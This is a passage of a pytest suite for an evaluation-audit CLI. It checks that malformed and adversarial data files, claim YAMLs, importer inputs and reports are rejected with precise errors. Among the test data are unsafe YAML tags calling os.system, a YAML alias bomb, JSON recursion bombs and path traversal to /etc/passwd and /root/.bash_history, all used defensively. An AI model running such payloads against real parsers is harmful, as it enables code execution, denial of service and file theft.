"""Malformed and adversarial inputs: every loader, importer, the claim spec and the report command.

Each bad input must exit 2 with a message naming the file, line and field where it can, print no
traceback, and leave no output behind. Inputs that are odd but valid (all ties, a single vignette,
a BOM, formula-looking CSV cells, a 5 MB text) must audit cleanly instead. Commands run in-process
through click's CliRunner; a few end-to-end checks run the real ``python -m honestci.audit.cli``.
"""

from __future__ import annotations

import errno
import gzip
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner
from synthetic_study import JUDGE, POLICY, claim_dict, study_rows, write_jsonl, write_study

from honestci.audit.cli import main
from honestci.audit.policy import THRESHOLDS, TIGHTENS

REPO_ROOT = Path(__file__).resolve().parents[1]
FIVE_MB = 5 * 1024 * 1024


def judgment_line(vignette: int, pair: int, policy_first: bool, pairs: int = 4) -> int:
    """1-based line of a judgment in the synthetic study's judgments.jsonl."""
    return 1 + 2 * (vignette * pairs + pair) + (0 if policy_first else 1)


# --- building blocks --------------------------------------------------------------------------


def audit_args(claim: Path, tmp_path: Path) -> list[str]:
    return ["audit", str(claim), "--out", str(tmp_path / "out"), "--no-bayes"]


def with_rows(change: Callable[[dict], None], **row_options) -> Callable[[Path], list[str]]:
    """A study whose rows ``change`` edits in place."""

    def build(tmp_path: Path) -> list[str]:
        rows = study_rows(**row_options)
        change(rows)
        return audit_args(write_study(tmp_path / "study", rows), tmp_path)

    return build


def with_file(
    table: str, content: bytes | Callable[[dict], bytes], name: str | None = None, claim_changes: dict | None = None
) -> Callable[[Path], list[str]]:
    """A study whose ``table`` file is replaced by raw bytes (optionally under another name)."""

    def build(tmp_path: Path) -> list[str]:
        rows = study_rows()
        claim = claim_dict(**(claim_changes or {}))
        if name:
            claim["data"][table] = name
        folder = tmp_path / "study"
        path = write_study(folder, rows, claim)
        (folder / (name or f"{table}.jsonl")).write_bytes(content(rows) if callable(content) else content)
        return audit_args(path, tmp_path)

    return build


def with_extra_table(table: str, rows_of: Callable[[dict], list[dict]]) -> Callable[[Path], list[str]]:
    """A study with an optional table (human_ratings, human_pairs, corpus) built from its rows."""

    def build(tmp_path: Path) -> list[str]:
        rows = study_rows()
        claim = claim_dict()
        claim["data"][table] = f"{table}.jsonl"
        folder = tmp_path / "study"
        path = write_study(folder, rows, claim)
        write_jsonl(folder / f"{table}.jsonl", rows_of(rows))
        return audit_args(path, tmp_path)

    return build


def with_claim(text: str | bytes | Callable[[Path], str]) -> Callable[[Path], list[str]]:
    """A valid study whose claim.yaml is replaced by ``text``."""

    def build(tmp_path: Path) -> list[str]:
        path = write_study(tmp_path / "study")
        content = text(path.parent) if callable(text) else text
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        return audit_args(path, tmp_path)

    return build


def with_claim_changes(**changes) -> Callable[[Path], list[str]]:
    def build(tmp_path: Path) -> list[str]:
        return audit_args(write_study(tmp_path / "study", claim=claim_dict(**changes)), tmp_path)

    return build


def claim_yaml(**changes) -> str:
    return yaml.safe_dump(claim_dict(**changes), sort_keys=False)


def jsonl(rows) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def csv_bytes(rows, drop: str | None = None) -> bytes:
    frame = pd.DataFrame(rows)
    if drop:
        frame = frame.drop(columns=drop)
    return frame.to_csv(index=False).encode()


def parquet_bytes(frame: pd.DataFrame, tmp: Path) -> bytes:
    path = tmp.with_suffix(".parquet")
    frame.to_parquet(path, index=False)
    return path.read_bytes()


def _set(table: str, index: int, **values) -> Callable[[dict], None]:
    def change(rows):
        rows[table][index].update(values)

    return change


def _del(table: str, index: int, key: str) -> Callable[[dict], None]:
    def change(rows):
        del rows[table][index][key]

    return change


def _append_copy(table: str, index: int) -> Callable[[dict], None]:
    def change(rows):
        rows[table].append(dict(rows[table][index]))

    return change


def _truncate_last(rows) -> bytes:
    data = jsonl(rows["judgments"])
    return data[: len(data) - 40]


def _with_bad_byte(rows) -> bytes:
    lines = jsonl(rows["responses"]).split(b"\n")
    lines[2] = lines[2].replace(b"policy answer", b"policy \xff answer")
    return b"\n".join(lines)


def _long_truncated_line(rows) -> bytes:
    lines = jsonl(rows["responses"]).split(b"\n")
    lines[4] = b'{"response_id": "v0-p2", "text": "' + b"x" * FIVE_MB  # 5 MB, cut off mid-string
    return b"\n".join(lines)


def _only_other_systems(rows) -> None:
    for response in rows["responses"]:
        response["system"] = "other-a" if response["system"] == POLICY else "other-b"


# --- pieces of the optional tables -------------------------------------------------------------


def _ratings(rows, score=5.0, duplicate=False):
    out = [{"response_id": r["response_id"], "rater_id": "r1", "score": score} for r in rows["responses"][:4]]
    return out + ([dict(out[0])] if duplicate else [])


def _pairs(rows, label="a", same=False):
    return [
        {
            "vignette_id": "v0",
            "response_a": "v0-p0",
            "response_b": "v0-p0" if same else "v0-o0",
            "label": label,
            "rater_id": "r1",
        }
    ]


def _nan_score(rows) -> bytes:
    return b'{"response_id": "v0-p0", "rater_id": "r1", "score": NaN}\n'


@dataclass
class Case:
    """One bad (or odd but valid) input: how to build it, the exit code and what the message says."""

    id: str
    build: Callable[[Path], list[str]]
    expect: tuple[str, ...]
    exit_code: int = 2
    marks: tuple = field(default=())


YAML_BOMB = """\
version: 1
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
name: *h
"""

LOADER_CASES = [
    # JSONL structure
    Case(
        "jsonl-truncated-last-line",
        with_file("judgments", _truncate_last),
        (f"judgments.jsonl, line {judgment_line(7, 3, False)}: is not valid JSON", "truncated"),
    ),
    Case(
        "jsonl-line-is-an-array",
        with_file("vignettes", b'{"vignette_id": "v0", "text": "t"}\n["v1", "t"]\n'),
        ("vignettes.jsonl, line 2: is a JSON list, not an object",),
    ),
    Case("jsonl-empty-file", with_file("judgments", b""), ("judgments.jsonl: has no rows",)),
    Case("jsonl-only-blank-lines", with_file("judgments", b"\n\n  \n"), ("judgments.jsonl: has no rows",)),
    Case(
        "jsonl-non-utf8",
        with_file("responses", _with_bad_byte),
        ("responses.jsonl, line 3: is not valid UTF-8: byte 0xff",),
    ),
    Case(
        "jsonl-5mb-truncated-line",
        with_file("responses", _long_truncated_line),
        ("responses.jsonl, line 5: is not valid JSON",),
    ),
    # types and values
    Case(
        "wrong-type-list-verdict",
        with_rows(_set("judgments", 4, verdict=["first"])),
        ("judgments.jsonl, line 5, field 'verdict': expected a string, got list",),
    ),
    Case(
        "wrong-type-bool-id",
        with_rows(_set("vignettes", 2, vignette_id=True)),
        ("vignettes.jsonl, line 3, field 'vignette_id': expected a string, got bool",),
    ),
    Case(
        "wrong-type-seed-text",
        with_rows(_set("responses", 1, seed="forty-two")),
        ("responses.jsonl, line 2, field 'seed': expected an integer, got str 'forty-two'",),
    ),
    Case(
        "wrong-type-seed-fraction",
        with_rows(_set("responses", 1, seed=1.5)),
        ("responses.jsonl, line 2, field 'seed': expected an integer, got float 1.5",),
    ),
    Case(
        "null-required-field",
        with_rows(_set("judgments", 0, judge=None)),
        ("judgments.jsonl, line 1, field 'judge': required value is null",),
    ),
    Case(
        "missing-required-field",
        with_rows(_del("responses", 3, "system")),
        ("responses.jsonl, line 4, field 'system': required field is missing",),
    ),
    Case(
        "verdict-not-allowed",
        with_rows(_set("judgments", 9, verdict="A")),
        ("judgments.jsonl, line 10, field 'verdict': 'A' is not one of: first, second, tie, invalid",),
    ),
    Case(
        "empty-vignette-text",
        with_rows(_set("vignettes", 0, text="   ")),
        ("vignettes.jsonl, line 1, field 'text': is empty",),
    ),
    Case(
        "pool-not-allowed",
        with_rows(_set("responses", 0, pool="train")),
        ("responses.jsonl, line 1, field 'pool': 'train' is not one of: selection, heldout",),
    ),
    Case(
        "prompt-hash-not-hex",
        with_rows(_set("judgments", 2, prompt_sha256="not-a-hash")),
        ("judgments.jsonl, line 3, field 'prompt_sha256': 'not-a-hash' is not 64 hexadecimal digits",),
    ),
    Case(
        "response-judged-against-itself",
        with_rows(_set("judgments", 0, response_second="v0-p0")),
        ("judgments.jsonl, line 1, field 'response_second': equals response_first",),
    ),
    Case(
        "nan-score",
        with_file(
            "human_ratings",
            _nan_score,
            claim_changes={
                "data": {
                    "vignettes": "vignettes.jsonl",
                    "responses": "responses.jsonl",
                    "judgments": "judgments.jsonl",
                    "human_ratings": "human_ratings.jsonl",
                }
            },
        ),
        ("human_ratings.jsonl, line 1, field 'score': required value is NaN",),
    ),
    Case(
        "infinite-score",
        with_extra_table("human_ratings", lambda rows: _ratings(rows, score=1e999)),
        ("human_ratings.jsonl, line 1, field 'score': is inf, not a finite number",),
    ),
    Case(
        "score-as-text",
        with_extra_table("human_ratings", lambda rows: _ratings(rows, score="good")),
        ("human_ratings.jsonl, line 1, field 'score': expected a number, got str 'good'",),
    ),
    Case(
        "human-pair-label-not-allowed",
        with_extra_table("human_pairs", lambda rows: _pairs(rows, label="maybe")),
        ("human_pairs.jsonl, line 1, field 'label': 'maybe' is not one of: a, b, tie",),
    ),
    Case(
        "human-pair-same-response",
        with_extra_table("human_pairs", lambda rows: _pairs(rows, same=True)),
        ("human_pairs.jsonl, line 1, field 'response_b': equals response_a",),
    ),
    # duplicates
    Case(
        "duplicate-vignette-id",
        with_rows(_append_copy("vignettes", 0)),
        ("vignettes.jsonl, line 9, field 'vignette_id': vignette_id='v0' occurs 2 times, on lines 1, 9",),
    ),
    Case(
        "duplicate-response-id",
        with_rows(_append_copy("responses", 5)),
        ("responses.jsonl, line 65, field 'response_id': response_id='v0-o2' occurs 2 times",),
    ),
    Case(
        "duplicate-judgment",
        with_rows(_append_copy("judgments", 0)),
        ("judgments.jsonl, line 65, field 'judge, response_first, response_second'", "occurs 2 times, on lines 1, 65"),
    ),
    Case(
        "duplicate-rating",
        with_extra_table("human_ratings", lambda rows: _ratings(rows, duplicate=True)),
        ("human_ratings.jsonl, line 5, field 'response_id, rater_id'", "occurs 2 times"),
    ),
    Case(
        "duplicate-corpus-doc",
        with_extra_table("corpus", lambda rows: [{"doc_id": "d1", "text": "a"}, {"doc_id": "d1", "text": "b"}]),
        ("corpus.jsonl, line 2, field 'doc_id': doc_id='d1' occurs 2 times",),
    ),
    # references
    Case(
        "judgment-unknown-vignette",
        with_rows(_set("judgments", 6, vignette_id="v99")),
        ("judgments.jsonl, line 7, field 'vignette_id': vignette 'v99' is not in the vignettes table",),
    ),
    Case(
        "judgment-unknown-response",
        with_rows(_set("judgments", 6, response_first="ghost")),
        ("judgments.jsonl, line 7, field 'response_first': response 'ghost' is not in the responses table",),
    ),
    Case(
        "judgment-response-of-other-vignette",
        with_rows(_set("judgments", 0, response_second="v1-o0")),
        ("judgments.jsonl, line 1, field 'response_second': response 'v1-o0' belongs to vignette 'v1', not 'v0'",),
    ),
    Case(
        "response-unknown-vignette",
        with_rows(_set("responses", 0, vignette_id="nowhere")),
        ("responses.jsonl, line 1, field 'vignette_id': vignette 'nowhere' is not in the vignettes table",),
    ),
    Case(
        "rating-unknown-response",
        with_extra_table("human_ratings", lambda rows: [{"response_id": "ghost", "rater_id": "r1", "score": 3}]),
        ("human_ratings.jsonl, line 1, field 'response_id': response 'ghost' is not in the responses table",),
    ),
    # CSV
    Case(
        "csv-missing-column",
        with_file("vignettes", lambda rows: csv_bytes(rows["vignettes"], drop="text"), name="vignettes.csv"),
        ("vignettes.csv, line 1, field 'text': required column is missing",),
    ),
    Case(
        "csv-ragged-row",
        with_file("vignettes", b"vignette_id,text\nv0,a,b\n", name="vignettes.csv"),
        ("vignettes.csv, line 2: has 3 fields but the header has 2",),
    ),
    Case(
        "csv-unclosed-quote",
        with_file("vignettes", b'vignette_id,text\nv0,"never closed\n', name="vignettes.csv"),
        ("vignettes.csv, line 2",),
    ),
    Case(
        "csv-duplicate-header",
        with_file("vignettes", b"vignette_id,text,text\nv0,a,b\n", name="vignettes.csv"),
        ("vignettes.csv, line 1, field 'text': column appears more than once in the header",),
    ),
    Case(
        "csv-non-utf8",
        with_file("vignettes", b"vignette_id,text\nv0,caf\xe9\n", name="vignettes.csv"),
        ("vignettes.csv, line 2: is not valid UTF-8: byte 0xe9",),
    ),
    Case("csv-empty-file", with_file("vignettes", b"", name="vignettes.csv"), ("vignettes.csv: has no rows",)),
    Case(
        "csv-header-only",
        with_file("vignettes", b"vignette_id,text\n", name="vignettes.csv"),
        ("vignettes.csv: has no rows",),
    ),
    # Parquet and gzip
    Case(
        "parquet-not-parquet",
        with_file("vignettes", b"PAR1 this is not parquet", name="vignettes.parquet"),
        ("vignettes.parquet: not a readable Parquet file",),
    ),
    Case(
        "parquet-wrong-type",
        with_file(
            "judgments",
            lambda rows: parquet_bytes(
                pd.DataFrame(rows["judgments"]).assign(verdict=3.5), Path("/tmp") / f"h10-{os.getpid()}-wrong"
            ),
            name="judgments.parquet",
        ),
        ("judgments.parquet, line 1, field 'verdict': expected a string, got float 3.5",),
    ),
    Case(
        "parquet-missing-column",
        with_file(
            "vignettes",
            lambda rows: parquet_bytes(
                pd.DataFrame(rows["vignettes"]).drop(columns="text"), Path("/tmp") / f"h10-{os.getpid()}-missing"
            ),
            name="vignettes.parquet",
        ),
        ("vignettes.parquet, field 'text': required column is missing",),
    ),
    Case(
        "gzip-corrupt",
        with_file("judgments", b"\x1f\x8b\x08\x00garbage", name="judgments.jsonl.gz"),
        ("judgments.jsonl.gz: not a readable gzip file",),
    ),
    Case(
        "gzip-truncated",
        with_file("judgments", lambda rows: gzip.compress(jsonl(rows["judgments"]))[:200], name="judgments.jsonl.gz"),
        ("judgments.jsonl.gz: not a readable gzip file",),
    ),
    Case(
        "unknown-extension",
        with_file("judgments", b"{}", name="judgments.txt"),
        ("judgments.txt: cannot tell the file's format from its name",),
    ),
]

CONTEST_CASES = [
    Case(
        "policy-not-in-responses",
        with_claim_changes(policy="no-such-model"),
        ("no judgments compare 'no-such-model' with 'opponent-m'", "name systems from the responses table"),
    ),
    Case(
        "opponent-not-in-responses",
        with_claim_changes(opponent="gpt-9"),
        ("no judgments compare 'policy-m' with 'gpt-9'",),
    ),
    Case(
        "judge-not-present",
        with_claim_changes(judge="claude-judge"),
        ("judge 'claude-judge' did not compare 'policy-m' with 'opponent-m'", f"use one of: {JUDGE}"),
    ),
    Case("policy-equals-opponent", with_claim_changes(opponent=POLICY), ("policy and opponent are both 'policy-m'",)),
    Case(
        "zero-contests-systems-never-met",
        with_rows(_only_other_systems),
        ("no judgments compare 'policy-m' with 'opponent-m'", "pairs judged: other-a vs other-b"),
    ),
    Case(
        "claim-leaves-out-single-order-contests",
        with_claim_changes(allow_single_order=True),
        ("allow_single_order", "the auditor's policy, not the claim's", "missing_orders:"),
    ),
]

CLAIM_CASES = [
    Case("claim-missing", lambda tmp: audit_args(tmp / "nowhere.yaml", tmp), ("nowhere.yaml does not exist",)),
    Case(
        "claim-is-a-directory",
        lambda tmp: audit_args(write_study(tmp / "study").parent, tmp),
        ("study is a directory, not a claim file",),
    ),
    Case("claim-empty", with_claim(""), ("claim.yaml is empty",)),
    Case("claim-non-utf8", with_claim(b"name: caf\xe9\n"), ("claim.yaml is not UTF-8 text",)),
    Case("claim-not-a-mapping", with_claim("- a\n- list\n"), ("must hold a YAML mapping", "not list")),
    Case(
        "claim-yaml-syntax",
        with_claim("version: 1\nname: [unclosed\nbar: 0.5\n"),
        ("claim.yaml is not valid YAML", "claim.yaml, line 3"),
    ),
    Case(
        "claim-python-object-tag",
        with_claim("!!python/object/apply:os.system ['echo pwned']\n"),
        ("claim.yaml is not valid YAML", "python/object/apply:os.system"),
    ),
    Case(
        "claim-python-name-tag",
        with_claim(lambda _: claim_yaml() + "policy2: !!python/name:os.system\n"),
        ("claim.yaml is not valid YAML", "python/name:os.system"),
    ),
    Case("claim-yaml-bomb", with_claim(YAML_BOMB), ("claim.yaml expands to more than", "alias bomb")),
    Case(
        "claim-duplicate-key",
        with_claim(lambda _: claim_yaml() + "bar: 0.01\n"),
        ("claim.yaml, line", "duplicate key 'bar'"),
    ),
    Case(
        "claim-unknown-key",
        with_claim(lambda _: claim_yaml(colour="red")),
        ("claim.yaml, field 'colour': unknown key",),
    ),
    Case("claim-bar-not-a-number", with_claim_changes(bar="high"), ("claim.yaml, field 'bar'",)),
    Case(
        "claim-bar-nan",
        with_claim(lambda _: claim_yaml().replace("bar: 0.5", "bar: .nan")),
        ("claim.yaml, field 'bar': Input should be",),
    ),
    Case("claim-bar-above-one", with_claim_changes(bar=1.5), ("claim.yaml, field 'bar': Input should be less than 1",)),
    Case(
        "claim-version-unknown",
        with_claim_changes(version=7),
        ("claim.yaml, field 'version'", "version 7 is not supported"),
    ),
    Case("claim-population-unknown", with_claim_changes(population="everyone"), ("claim.yaml, field 'population'",)),
    Case(
        "claim-required-gate-unknown",
        with_claim_changes(required_gates=["vibes"]),
        ("claim.yaml, field 'required_gates'", "unknown gate(s) ['vibes']"),
    ),
    Case(
        "claim-threshold-wrong-type",
        with_claim_changes(thresholds={"min_clusters": "five"}),
        ("claim.yaml, field 'thresholds.min_clusters'", "an integer"),
    ),
    Case(
        "claim-threshold-out-of-range",
        with_claim_changes(thresholds={"confidence_level": 1.5}),
        ("claim.yaml, field 'thresholds.confidence_level'", "between 0 and 1"),
    ),
    Case(
        "claim-missing-policy",
        with_claim(lambda _: claim_yaml().replace("policy: policy-m\n", "")),
        ("claim.yaml, field 'policy': Field required",),
    ),
    Case(
        "claim-missing-required-table",
        with_claim_changes(data={"vignettes": "vignettes.jsonl", "responses": "responses.jsonl"}),
        ("claim.yaml, field 'data'", "missing required table(s) ['judgments']"),
    ),
    Case(
        "claim-data-path-null",
        with_claim_changes(data={"vignettes": None, "responses": "responses.jsonl", "judgments": "judgments.jsonl"}),
        ("claim.yaml, field 'data.vignettes'",),
    ),
    Case(
        "claim-path-parent-escape",
        with_claim_changes(
            data={"vignettes": "../../etc/passwd", "responses": "responses.jsonl", "judgments": "judgments.jsonl"}
        ),
        (
            "claim.yaml, field 'data.vignettes': '../../etc/passwd' resolves outside the claim's folder",
            "--allow-outside-data",
        ),
    ),
    Case(
        "claim-path-absolute",
        with_claim_changes(
            data={"vignettes": "/etc/passwd", "responses": "responses.jsonl", "judgments": "judgments.jsonl"}
        ),
        ("claim.yaml, field 'data.vignettes': '/etc/passwd' resolves outside the claim's folder",),
    ),
    Case(
        "claim-training-log-escape",
        with_claim_changes(training_log="../../../root/.bash_history"),
        ("claim.yaml, field 'training_log': '../../../root/.bash_history' resolves outside",),
    ),
    Case(
        "claim-data-is-a-directory",
        lambda tmp: audit_args(_claim_with_dir_data(tmp), tmp),
        ("claim.yaml, field 'data.judgments': 'judgments.jsonl' is a directory, not a file",),
    ),
    Case(
        "claim-data-file-missing",
        with_claim_changes(
            data={"vignettes": "vignettes.jsonl", "responses": "responses.jsonl", "judgments": "j2.jsonl"}
        ),
        ("claim.yaml, field 'data.judgments': file 'j2.jsonl' not found",),
    ),
    Case(
        "claim-symlink-outside",
        lambda tmp: audit_args(_claim_with_symlink_outside(tmp), tmp),
        ("claim.yaml, field 'data.vignettes': 'vignettes.jsonl' resolves outside the claim's folder",),
    ),
]


def _claim_with_dir_data(tmp_path: Path) -> Path:
    path = write_study(tmp_path / "study")
    (path.parent / "judgments.jsonl").unlink()
    (path.parent / "judgments.jsonl").mkdir()
    return path


def _claim_with_symlink_outside(tmp_path: Path) -> Path:
    outside = tmp_path / "elsewhere"
    write_study(outside)
    path = write_study(tmp_path / "study")
    (path.parent / "vignettes.jsonl").unlink()
    (path.parent / "vignettes.jsonl").symlink_to(outside / "vignettes.jsonl")
    return path


# --- importers ----------------------------------------------------------------------------------


def importer(fmt: str, name: str, content: bytes, *extra: str) -> Callable[[Path], list[str]]:
    def build(tmp_path: Path) -> list[str]:
        source = tmp_path / name
        source.write_bytes(content)
        return ["import", fmt, str(source), "--out", str(tmp_path / "out" / "judgments.jsonl"), *extra]

    return build


ALPACA_RECORD = {
    "instruction": "Say hi",
    "output_1": "hi",
    "output_2": "hello",
    "generator_1": "base",
    "generator_2": "model",
    "annotator": "gpt4",
    "preference": 2,
}
MT_RECORD = {
    "question_id": 81,
    "model_1": "a",
    "model_2": "b",
    "g1_winner": "model_1",
    "g2_winner": "model_2",
    "judge": ["gpt-4", "pair-v2"],
    "turn": 1,
}
GENERIC_MAP = (
    "--map",
    "vignette_id=q",
    "--map",
    "response_first=a",
    "--map",
    "response_second=b",
    "--map",
    "verdict=w",
    "--judge",
    "j",
)


def _alpaca(*records) -> bytes:
    return json.dumps(list(records)).encode()


IMPORTER_CASES = [
    Case(
        "alpaca-not-json",
        importer("alpaca_eval", "annotations.json", b'[{"instruction": '),
        ("annotations.json: not readable JSON",),
    ),
    Case(
        "alpaca-not-a-list",
        importer("alpaca_eval", "annotations.json", b'{"a": 1}'),
        ("annotations.json: expected a JSON list of annotations, got a JSON dict",),
    ),
    Case(
        "alpaca-record-not-object",
        importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, 17)),
        ("annotations.json, line 2: is a JSON int, not an object",),
    ),
    Case(
        "alpaca-missing-output",
        importer(
            "alpaca_eval", "annotations.json", _alpaca({k: v for k, v in ALPACA_RECORD.items() if k != "output_1"})
        ),
        ("annotations.json, line 1, field 'output_1': missing or not text",),
    ),
    Case(
        "alpaca-preference-out-of-range",
        importer("alpaca_eval", "annotations.json", _alpaca({**ALPACA_RECORD, "preference": 2.73})),
        ("annotations.json, line 1, field 'preference': 2.73 is neither 1, 2, a draw",),
    ),
    Case(
        "alpaca-non-utf8",
        importer("alpaca_eval", "annotations.json", b'[{"instruction": "caf\xe9"}]'),
        ("annotations.json: not readable JSON", "UTF-8"),
    ),
    Case(
        "alpaca-empty-list",
        importer("alpaca_eval", "annotations.json", b"[]"),
        ("No judgments found in", "annotations.json"),
    ),
    Case(
        "alpaca-duplicate-record",
        importer("alpaca_eval", "annotations.json", _alpaca(ALPACA_RECORD, ALPACA_RECORD)),
        ("annotations.json, line 2: ordered pair", "judged twice by 'gpt4'"),
    ),
    Case(
        "alpaca-bad-gzip",
        importer("alpaca_eval", "annotations.json.gz", b"\x1f\x8b\x08garbage"),
        ("annotations.json.gz: not readable JSON",),
    ),
    Case(
        "pandalm-not-a-list",
        importer("pandalm", "testset-v1.json", b'{"idx": 1}'),
        ("testset-v1.json: expected a JSON list of test-set items",),
    ),
    Case(
        "pandalm-record-not-object",
        importer("pandalm", "testset-v1.json", b'["text"]'),
        ("testset-v1.json, line 1: is a JSON str, not an object",),
    ),
    Case(
        "pandalm-missing-idx",
        importer("pandalm", "testset-v1.json", b'[{"instruction": "x", "cmp_key": "a_b"}]'),
        ("testset-v1.json, line 1, field 'idx': missing",),
    ),
    Case(
        "mtbench-truncated-line",
        importer("mtbench", "gpt-4_pair.jsonl", (json.dumps(MT_RECORD) + "\n" + json.dumps(MT_RECORD)[:30]).encode()),
        ("gpt-4_pair.jsonl, line 2: not valid JSON",),
    ),
    Case(
        "mtbench-non-utf8",
        importer("mtbench", "gpt-4_pair.jsonl", json.dumps(MT_RECORD).encode() + b"\n\xff\xfe\n"),
        ("gpt-4_pair.jsonl, line 2", "UTF-8"),
    ),
    Case(
        "mtbench-line-not-object",
        importer("mtbench", "gpt-4_pair.jsonl", b"[1, 2]\n"),
        ("gpt-4_pair.jsonl, line 1: is a JSON list, not an object",),
    ),
    Case(
        "mtbench-turn-not-a-number",
        importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "turn": "two"}).encode()),
        ("gpt-4_pair.jsonl, line 1, field 'turn'", "not an integer"),
    ),
    Case(
        "mtbench-unknown-winner",
        importer("mtbench", "gpt-4_pair.jsonl", json.dumps({**MT_RECORD, "g1_winner": "both"}).encode()),
        ("gpt-4_pair.jsonl, line 1, field 'g1_winner': 'both' is not model_1, model_2, tie or error",),
    ),
    Case(
        "mtbench-empty-file",
        importer("mtbench", "gpt-4_pair.jsonl", b""),
        ("No judgments found in", "gpt-4_pair.jsonl"),
    ),
    Case(
        "generic-non-utf8-csv",
        importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,first\nv2,caf\xe9,y,first\n", *GENERIC_MAP),
        ("j.csv, line 3", "UTF-8"),
    ),
    Case(
        "generic-corrupt-parquet",
        importer("generic", "j.parquet", b"PAR1 not really", *GENERIC_MAP),
        ("j.parquet: not a readable Parquet file",),
    ),
    Case(
        "generic-unmapped-verdict",
        importer("generic", "j.csv", b"q,a,b,w\nv1,x,y,A\n", *GENERIC_MAP),
        ("j.csv, line 2, field 'w': value 'A' has no verdict mapping",),
    ),
    Case(
        "generic-absent-column",
        importer("generic", "j.csv", b"q,a,w\nv1,x,first\n", *GENERIC_MAP),
        ("j.csv, line 2, field 'b': column 'b' (mapped to response_second) is absent",),
    ),
    Case(
        "generic-unknown-extension",
        importer("generic", "j.xlsx", b"PK", *GENERIC_MAP),
        ("j.xlsx: unknown table format",),
    ),
    Case(
        "generic-header-only",
        importer("generic", "j.csv", b"q,a,b,w\n", *GENERIC_MAP),
        ("No judgments found in", "j.csv"),
    ),
    Case(
        "generic-missing-file",
        lambda tmp: ["import", "generic", str(tmp / "none.csv"), "--out", str(tmp / "out" / "j.jsonl"), *GENERIC_MAP],
        ("none.csv: file not found",),
    ),
    Case("import-out-parent-is-a-file", lambda tmp: _import_into_file(tmp), ("Cannot write", "blocker")),
]


def _import_into_file(tmp_path: Path) -> list[str]:
    source = tmp_path / "j.csv"
    source.write_bytes(b"q,a,b,w\nv1,x,y,first\n")
    (tmp_path / "blocker").write_text("a file, not a folder")
    return ["import", "generic", str(source), "--out", str(tmp_path / "blocker" / "out" / "j.jsonl"), *GENERIC_MAP]


# --- report -----------------------------------------------------------------------------------


def report_of(content: bytes, *extra: str) -> Callable[[Path], list[str]]:
    def build(tmp_path: Path) -> list[str]:
        (tmp_path / "verdict.json").write_bytes(content)
        return ["report", str(tmp_path / "verdict.json"), *extra]

    return build


REPORT_CASES = [
    Case("report-not-json", report_of(b"{not json"), ("verdict.json is not valid JSON",)),
    Case("report-json-list", report_of(b"[1, 2]"), ("verdict.json holds a JSON list, not a report object",)),
    Case(
        "report-missing-keys", report_of(b'{"schema_version": 1}'), ("verdict.json is not an honestci report: missing",)
    ),
    Case(
        "report-wrong-shapes",
        report_of(
            json.dumps(
                {
                    "schema_version": 1,
                    "claim": "x",
                    "verdict": 3,
                    "gates": "none",
                    "intervals": {},
                    "contests": [],
                    "provenance": 0,
                }
            ).encode()
        ),
        ("verdict.json is not an honestci report", "'claim' must be an object"),
    ),
    Case("report-missing-file", lambda tmp: ["report", str(tmp / "nope.json")], ("nope.json does not exist",)),
]

# --- hostile inputs: parser limits, invalid text in valid JSON, paths, loosening claims ----------

CLAIMED = {"point": 0.7, "n": 32, "ci_low": 0.6, "ci_high": 0.8, "level": 0.95}
TABLE_IDS = {"vignettes": "vignette_id", "responses": "response_id", "judgments": "vignette_id"}


def _hostile_line(table: str, edit: Callable[[str], str]) -> Callable[[dict], bytes]:
    """``table``'s rows as JSONL with the text of its second line passed through ``edit``."""

    def content(rows) -> bytes:
        lines = [json.dumps(r) for r in rows[table]]
        lines[1] = edit(lines[1])
        return ("\n".join(lines) + "\n").encode()

    return content


def _set_id(table: str, value: str) -> Callable[[str], str]:
    key = TABLE_IDS[table]
    return lambda line: json.dumps({**json.loads(line), key: value})


def _laxer(name: str):
    value = getattr(THRESHOLDS, name)
    step = 1 if isinstance(value, int) else 0.01
    return value - step if TIGHTENS[name] == "higher" else value + step


def _claim_with_symlink_loop(tmp_path: Path) -> list[str]:
    claim = claim_dict()
    claim["data"]["responses"] = "loop.jsonl"
    path = write_study(tmp_path / "study", claim=claim)
    (path.parent / "loop.jsonl").symlink_to(path.parent / "loop.jsonl")
    return audit_args(path, tmp_path)


HOSTILE_EDITS = {
    "recursion-bomb": (lambda line: line[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}", "too deeply"),
    "digit-limit": (lambda line: line[:-1] + ', "huge": ' + "9" * 5000 + "}", "digits"),
    "duplicate-key": (lambda line: line[:-1] + ", " + line[1:], "twice"),
    "lone-surrogate-id": (lambda line: line.replace('": "', '": "\\ud800', 1), "surrogate"),
}
HOSTILE_CASES = (
    [
        Case(f"{table}-{kind}", with_file(table, _hostile_line(table, edit)), (f"{table}.jsonl, line 2", needle))
        for table in TABLE_IDS
        for kind, (edit, needle) in HOSTILE_EDITS.items()
    ]
    + [
        Case(
            f"{table}-{name}-in-id",
            with_file(table, _hostile_line(table, _set_id(table, f"v1{char}x"))),
            (f"{table}.jsonl, line 2, field '{TABLE_IDS[table]}'", "control character"),
        )
        for table in TABLE_IDS
        for name, char in (("nul", "\x00"), ("newline", "\n"), ("escape", "\x1b"))
    ]
    + [
        Case(
            f"responses-{column}-beyond-int64",
            with_file(
                "responses", _hostile_line("responses", lambda line, c=column: line[:-1] + f', "{c}": {2**70}}}')
            ),
            (f"responses.jsonl, line 2, field '{column}'", "64-bit"),
        )
        for column in ("seed", "sample_idx")
    ]
    + [
        Case(
            f"claim-path-{name}",
            with_claim_changes(data={**claim_dict()["data"], "vignettes": bad}),
            ("field 'data.vignettes'", "cannot be used as a path"),
        )
        for name, bad in (("nul-byte", "vig\x00.jsonl"), ("name-too-long", "v" * 300 + ".jsonl"))
    ]
    + [
